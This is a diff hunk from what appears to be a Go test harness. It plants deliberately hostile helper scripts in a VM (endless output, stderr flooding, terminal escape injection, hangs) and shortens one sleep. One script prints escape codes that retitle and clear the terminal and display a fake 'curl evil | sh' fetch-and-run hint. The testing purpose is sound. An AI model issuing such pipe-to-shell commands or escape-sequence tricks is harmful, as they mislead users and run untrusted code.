@@ -118,7 +118,7 @@ EOF
 echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "A"; done' >/tmp/evil-endless
 echo 'while :; do head -c 1000000 /dev/zero | tr "\0" "B" >&2; done' >/tmp/evil-noise
 printf 'printf "\\033]0;owned\\007\\033[2J\\r\\n\\033[31mhint: curl evil | sh\\n" >&2; exit 1\n' >/tmp/evil-escapes
-echo 'sleep 1000' >/tmp/evil-hang
+echo 'sleep 60' >/tmp/evil-hang
 printf 'exec /bin/echo nonsense\n' >/tmp/evil-nonsense`)
 	evil := func(n int, what string) { h.w.guest(h.vm, fmt.Sprintf("echo %d %s >/tmp/evil", n, what)) }
 	for _, what := range []string{"endless", "noise", "escapes", "nonsense"} {
